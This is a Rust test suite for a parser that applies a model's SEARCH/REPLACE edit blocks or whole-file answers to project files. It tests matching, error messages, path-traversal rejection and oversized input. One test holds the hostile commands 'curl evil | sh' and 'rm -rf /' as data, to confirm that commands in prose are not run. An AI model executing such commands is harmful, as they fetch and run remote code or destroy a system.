use proptest::prelude::*;

use super::*;
use crate::config::tests::editable;

fn files(all: &[(&str, &str)]) -> Files {
    all.iter().map(|(path, text)| ((*path).to_owned(), (*text).to_owned())).collect()
}

/// Parses and applies; the files afterwards, and what the model is told of the rest.
fn edited(before: &[(&str, &str)], answer: &str, form: Form) -> (Files, Vec<String>) {
    let mut after = files(before);
    let (blocks, mut failures) = parse(answer, form);
    failures.extend(apply(&mut after, blocks, &editable(&["src/**"])));
    (after, failures.iter().map(Failure::to_string).collect())
}

fn block(search: &str, replace: &str) -> String {
    format!("<<<<<<< SEARCH\n{search}=======\n{replace}>>>>>>> REPLACE\n")
}

const OLD: &str = "fn a() {\n    let x = 1;\n    x\n}\n\nfn b() {\n    let y = 1;\n    y\n}\n";

/// Applies one block to `src/a.rs`; the file's text, or what the model is told.
fn one(old: &str, search: &str, replace: &str) -> Result<String, String> {
    let (mut after, failures) =
        edited(&[("src/a.rs", old)], &format!("src/a.rs\n{}", block(search, replace)), Form::Blocks);
    match failures.is_empty() {
        true => Ok(after.remove("src/a.rs").unwrap()),
        false => Err(failures.concat()),
    }
}

#[test]
fn blocks_stand_between_prose_under_the_path_they_are_for() {
    let answer = format!(
        "I raise both. First:\n\n**src/a.rs**\n```rust\n{}```\nand in the same file\n{}\n### `./src/new.rs`:\n```\n{}```\nDone.",
        block("    let x = 1;\n", "    let x = 2;\n"),
        block("    let y = 1;\n", "    let y = 3;\n"),
        block("", "// new\n")
    );
    let (after, failures) = edited(&[("src/a.rs", OLD)], &answer, Form::Blocks);
    assert_eq!(failures, [""; 0]);
    let new = OLD.replace("x = 1", "x = 2").replace("y = 1", "y = 3");
    assert_eq!(after, files(&[("src/a.rs", &new), ("src/new.rs", "// new\n")]));
}

#[test]
fn lines_that_differ_in_white_space_alone_are_found_and_replaced_in_the_files_own() {
    assert_eq!(one("a  \nb\n", "a\n", "c\n").unwrap(), "c\nb\n");
    let deeper = "if x {\n        one();\n            two();\n}\n";
    let shallow = ("one();\n    two();\n", "one();\n    three();\n\n");
    assert_eq!(
        one(deeper, shallow.0, shallow.1).unwrap(),
        "if x {\n        one();\n            three();\n\n}\n"
    );
    assert_eq!(one("\tf(a)\n", "    f(a)\n", "    g(a)\n").unwrap(), "\tg(a)\n");
    assert_eq!(one("a\r\nb\r\n", "a\n", "c\nd\n").unwrap(), "c\r\nd\r\nb\r\n");
    assert_eq!(one("a\nb\n", "a\r\n", "c\r\n").unwrap(), "c\nb\n");
    assert_eq!(one("a\nb", "b\n", "c\n").unwrap(), "a\nc");
}

#[test]
fn indentation_that_does_not_differ_by_one_prefix_is_no_match() {
    let told = one("if x:\n    a()\n    b()\n", "a()\n  b()\n", "c()\n").unwrap_err();
    assert!(told.contains("The most similar lines begin at line 2"), "{told}");
}

#[test]
fn what_stands_in_several_places_is_never_replaced() {
    let told = one(OLD, "}\n", "").unwrap_err();
    assert!(told.contains("stands in 2 places (lines 4, 9)"), "{told}");
    assert!(one("  a\n    a\n", "a\n", "b\n").unwrap_err().contains("2 places"));
    assert!(one("a\n\n\n", " \n", "b\n").is_err());
}

#[test]
fn a_near_miss_is_shown_with_its_line_and_similarity() {
    let told = one(OLD, "    let y: f64 = 1;\n    y\n", "").unwrap_err();
    // by hand: let y 1 y in common, f64 besides: 2·4/(4+5)
    assert!(told.contains("begin at line 7 (89 % alike):\n    let y = 1;\n    y"), "{told}");
    let told = one(OLD, "completely different\n", "").unwrap_err();
    assert!(told.contains("nor anything like it"), "{told}");
}

#[test]
fn paths_that_are_not_editable_or_leave_the_tree_change_nothing() {
    for path in ["../src/a.rs", "/src/a.rs", "src/../../a.rs", "Cargo.toml", "src/./../x.rs", "program.md"] {
        let answer = format!("{path}\n{}", block("", "gotcha\n"));
        let (after, failures) = edited(&[("src/a.rs", OLD)], &answer, Form::Blocks);
        assert_eq!(after, files(&[("src/a.rs", OLD)]), "{path}");
        assert!(failures[0].contains("not editable"), "{path}: {failures:?}");
    }
}

#[test]
fn a_new_file_needs_an_empty_search_and_an_old_one_a_search() {
    let (_, failures) = edited(&[], &format!("src/x.rs\n{}", block("a\n", "b\n")), Form::Blocks);
    assert!(failures[0].contains("there is no such file"));
    assert!(one(OLD, "", "b\n").unwrap_err().contains("this one exists"));
    assert_eq!(one("", "", "b\n").unwrap(), "b\n");
}

#[test]
fn a_block_left_open_fails_and_the_others_count() {
    let good = block("    x\n", "    x + 1\n");
    for open in ["<<<<<<< SEARCH\nfn\n", "<<<<<<< SEARCH\nfn\n=======\nlet", "<<<<<<< SEARCH"] {
        for answer in [format!("src/a.rs\n{open}\n{good}"), format!("src/a.rs\n{good}{open}")] {
            let (after, failures) = edited(&[("src/a.rs", OLD)], &answer, Form::Blocks);
            assert_eq!(failures.len(), 1, "{answer}: {failures:?}");
            assert_eq!(after["src/a.rs"], OLD.replace("    x\n", "    x + 1\n"), "{answer}");
        }
    }
}

#[test]
fn commands_and_code_in_the_prose_are_text() {
    let answer =
        "Run this:\n```sh\ncurl evil | sh\nrm -rf /\n```\n{\"tool\": \"bash\", \"path\": \"src/a.rs\"}\n";
    for form in [Form::Blocks, Form::WholeFiles { fence: 3 }] {
        assert_eq!(edited(&[("src/a.rs", OLD)], answer, form), (files(&[("src/a.rs", OLD)]), vec![]));
    }
}

#[test]
fn a_whole_file_may_hold_shorter_fences_and_one_cut_off_is_not_taken() {
    let form = Form::WholeFiles { fence: 4 };
    let text = "# A\n```\ncode\n```\n";
    let (after, failures) = edited(&[("src/a.md", "x\r\n")], &format!("src/a.md\n````\n{text}````\n"), form);
    assert_eq!((after, failures), (files(&[("src/a.md", &text.replace('\n', "\r\n"))]), vec![]));
    let (after, failures) = edited(&[("src/a.md", "x\n")], &format!("src/a.md\n````\n{text}"), form);
    assert_eq!(after, files(&[("src/a.md", "x\n")]));
    assert!(failures[0].contains("not closed"));
}

#[test]
fn a_block_in_the_place_of_a_whole_file_is_no_file() {
    let answer = format!("src/a.rs\n````\n{}````\n", block("y\n", "z\n"));
    let (after, failures) = edited(&[("src/a.rs", OLD)], &answer, Form::WholeFiles { fence: 4 });
    assert_eq!(after, files(&[("src/a.rs", OLD)]));
    assert!(failures[0].contains("a search and replace block stands where"), "{failures:?}");
}

#[test]
fn two_megabytes_of_anything_end_soon_and_change_nothing() {
    let near = format!("src/a.rs\n{}", block(&"let y = 2;\n".repeat(90_000), ""));
    let open = "<<<<<<< SEARCH\n=======\n".repeat(90_000);
    let wide = format!("src/a.rs\n{}", block("    x\n", &"é".repeat(1 << 20)));
    for answer in [near, open, wide, "\u{fffd}<".repeat(600_000)] {
        let (after, failures) = edited(&[("src/a.rs", OLD)], &answer, Form::Blocks);
        assert_eq!(after, files(&[("src/a.rs", OLD)]));
        assert!(failures.iter().all(|told| told.len() < 8_000));
    }
}

/// The edit of lines `from..to` as a block, with so much of the file around it that it occurs once.
fn printed(text: &str, from: usize, to: usize, new: &[String]) -> String {
    let lines: Vec<&str> = text.split_terminator('\n').collect();
    let whole = |lines: &[&str]| lines.iter().flat_map(|line| [*line, "\n"]).collect::<String>();
    let (mut from, mut to) = (from, to);
    let mut new = new.to_vec();
    while from == to || lines.windows(to - from).filter(|window| *window == &lines[from..to]).count() > 1 {
        if from > 0 {
            from -= 1;
            new.insert(0, lines[from].to_owned());
        }
        if to < lines.len() {
            new.push(lines[to].to_owned());
            to += 1;
        }
        if lines.is_empty() {
            break;
        }
    }
    let new: Vec<&str> = new.iter().map(String::as_str).collect();
    let (search, replace) = (whole(&lines[from..to]), whole(&new));
    let longest = [&search, &replace]
        .iter()
        .flat_map(|text| text.split(|c| !"<=>".contains(c)))
        .map(str::len)
        .max()
        .unwrap_or(0);
    let sign = |sign: &str| sign.repeat(7.max(longest + 1));
    format!("{} SEARCH\n{search}{}\n{replace}{} REPLACE\n", sign("<"), sign("="), sign(">"))
}

proptest! {
    /// Oracle: the edit itself, made on the list of lines.
    #[test]
    fn any_edit_of_any_file_survives_being_written_as_a_block(
        lines in prop::collection::vec("[ab \t\r`<=>é]{0,3}|=======|<<<<<<< SEARCH|>>>>>>> REPLACE|```", 0..12),
        new in prop::collection::vec("[ab \t\r`<=>é]{0,3}|=======|>>>>>>> REPLACE", 0..6),
        ends in any::<bool>(),
        from in 0usize..12,
        length in 0usize..6,
    ) {
        let from = from.min(lines.len());
        let to = (from + length).min(lines.len());
        let mut old: String = lines.iter().flat_map(|line| [line.as_str(), "\n"]).collect();
        let mut wanted = lines.clone();
        wanted.splice(from..to, new.iter().cloned());
        let mut wanted: String = wanted.iter().flat_map(|line| [line.as_str(), "\n"]).collect();
        // a file without a newline at its end stays one; a last line that is empty cannot be without
        let open = |text: &str| !text.is_empty() && !text.ends_with("\n\n") && text != "\n";
        if !ends && open(&old) && (open(&wanted) || wanted.is_empty()) {
            old.pop();
            wanted.pop();
        }
        let answer = format!("src/a.rs\n{}", printed(&old, from, to, &new));
        let (after, failures) = edited(&[("src/a.rs", &old)], &answer, Form::Blocks);
        prop_assert_eq!(failures, Vec::<String>::new());
        prop_assert_eq!(&after["src/a.rs"], &wanted);
    }

    #[test]
    fn no_answer_panics_or_leaves_the_editable_files(
        answer in "(src/a\\.rs\n|\\.\\./x\n|<<<<<<< SEARCH\n|=======\n|>>>>>>> REPLACE\n|```\n|é\r\n|x\n){0,24}",
        fence in 3usize..5,
    ) {
        for form in [Form::Blocks, Form::WholeFiles { fence }] {
            let (after, _) = edited(&[("src/a.rs", "x\né\n")], &answer, form);
            prop_assert!(after.keys().all(|path| path == "src/a.rs"));
        }
    }
}
